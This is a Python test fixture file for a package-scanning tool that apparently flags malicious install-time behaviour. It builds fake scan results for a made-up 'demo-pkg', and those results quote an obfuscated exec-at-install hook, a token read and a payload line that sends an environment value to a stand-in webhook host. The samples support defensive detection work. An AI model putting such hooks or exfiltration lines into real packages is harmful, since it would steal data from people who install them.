"""Hand-built scan results for the report tests. The "malicious" package is made up and inert."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from capwatch.model import (
    ArtifactInfo,
    ArtifactKind,
    CapabilitySummary,
    Confidence,
    Ecosystem,
    Evidence,
    Finding,
    Location,
    Phase,
    ScanResult,
    Severity,
    Verdict,
)

DECODED_PAYLOAD = "\n".join(
    ["import os", "import urllib.request"]
    + [f"# filler line {i}" for i in range(40)]
    + ["urllib.request.urlopen('https://hooks.example.invalid/x', data=os.environ['HOME'])"]
)


def malicious_result() -> ScanResult:
    art = ArtifactInfo(
        path="dist/demo_pkg-0.1.0.tar.gz",
        sha256="a" * 64,
        size=4096,
        ecosystem=Ecosystem.PYPI,
        name="demo-pkg",
        version="0.1.0",
        kind=ArtifactKind.SDIST,
        container="tar.gz",
    )
    # Deliberately out of phase order, to check grouping.
    runtime = Finding(
        rule="CW3001",
        title="Network request at runtime",
        severity=Severity.LOW,
        confidence=Confidence.MEDIUM,
        phase=Phase.RUNTIME,
        message="demo/net.py opens a URL",
        capabilities=("network.http",),
        evidence=(Evidence(Location("demo/net.py", 40, 8), "urlopen(url)"),),
    )
    unphased = Finding(
        rule="CW9001",
        title="Unusual file in package",
        severity=Severity.INFO,
        confidence=Confidence.LOW,
        phase=None,
        message="the sdist contains a binary blob",
    )
    install = Finding(
        rule="CW1001",
        title="Decoded payload executed at install",
        severity=Severity.CRITICAL,
        confidence=Confidence.HIGH,
        phase=Phase.INSTALL,
        message="setup.py executes a base64+zlib payload while pip installs the package",
        capabilities=("code.exec", "network.http", "env.read"),
        indicators=("endpoint.webhook",),
        evidence=(
            Evidence(
                Location("setup.py", 14, 4),
                "exec(zlib.decompress(base64.b64decode(BLOB)))",
                ("base64.b64decode", "zlib.decompress"),
                DECODED_PAYLOAD,
            ),
            Evidence(Location("setup.py", 20), "cmdclass={'install': Hook}"),
        ),
    )
    install_low = Finding(
        rule="CW1010",
        title="Custom install command",
        severity=Severity.MEDIUM,
        confidence=Confidence.HIGH,
        phase=Phase.INSTALL,
        message="setup.py overrides the install command",
        evidence=(Evidence(Location("setup.py", 20), "cmdclass={'install': Hook}"),),
    )
    importing = Finding(
        rule="CW2001",
        title="Environment read on import",
        severity=Severity.HIGH,
        confidence=Confidence.MEDIUM,
        phase=Phase.IMPORT,
        message="demo/__init__.py reads the environment when imported",
        capabilities=("env.read",),
        evidence=(Evidence(Location("demo/__init__.py", 3), "os.environ.get('TOKEN')"),),
    )
    startup = Finding(
        rule="CW1500",
        title="Path configuration file runs code",
        severity=Severity.HIGH,
        confidence=Confidence.HIGH,
        phase=Phase.STARTUP,
        message="demo.pth imports a module at every interpreter start",
        capabilities=("code.exec",),
        evidence=(Evidence(Location("demo.pth", 1), "import demo._hook"),),
    )
    return ScanResult(
        artifact=art,
        verdict=Verdict.MALICIOUS,
        score=97.5,
        findings=(runtime, unphased, install_low, importing, install, startup),
        capabilities=(
            CapabilitySummary("network.http", Phase.RUNTIME, 1),
            CapabilitySummary("code.exec", Phase.INSTALL, 2),
            CapabilitySummary("env.read", Phase.IMPORT, 1),
        ),
        duration_ms=123.5,
        files_scanned=7,
        stats={"bytes_read": 10240, "lang": {"python": 6}},
    )


def clean_result() -> ScanResult:
    return ScanResult(
        artifact=ArtifactInfo(
            path="dist/tidy-1.0-py3-none-any.whl",
            sha256="b" * 64,
            size=2048,
            ecosystem=Ecosystem.PYPI,
            name="tidy",
            version="1.0",
            kind=ArtifactKind.WHEEL,
            container="zip",
        ),
        verdict=Verdict.CLEAN,
        score=0.0,
        capabilities=(CapabilitySummary("fs.read", Phase.RUNTIME, 3),),
        duration_ms=12.0,
        files_scanned=4,
    )


def error_result() -> ScanResult:
    return ScanResult(
        artifact=ArtifactInfo(path="dist/broken-2.0.tgz", sha256="c" * 64, size=17),
        verdict=Verdict.ERROR,
        score=0.0,
        error="not an archive: gzip header is corrupt",
        duration_ms=1.5,
    )


@pytest.fixture
def malicious() -> ScanResult:
    return malicious_result()


@pytest.fixture
def clean() -> ScanResult:
    return clean_result()


@pytest.fixture
def errored() -> ScanResult:
    return error_result()


@pytest.fixture
def results() -> list[ScanResult]:
    return [malicious_result(), clean_result(), error_result()]


DOCS = Path(__file__).resolve().parents[3] / "docs" / "output.md"


@pytest.fixture
def doc_blocks() -> list[tuple[str, str]]:
    """The fenced code blocks of docs/output.md as (language, text)."""
    if not DOCS.is_file():
        pytest.skip("docs/output.md not found")
    return re.findall(r"^```(\w*)\n(.*?)^```$", DOCS.read_text(encoding="utf-8"), re.M | re.S)
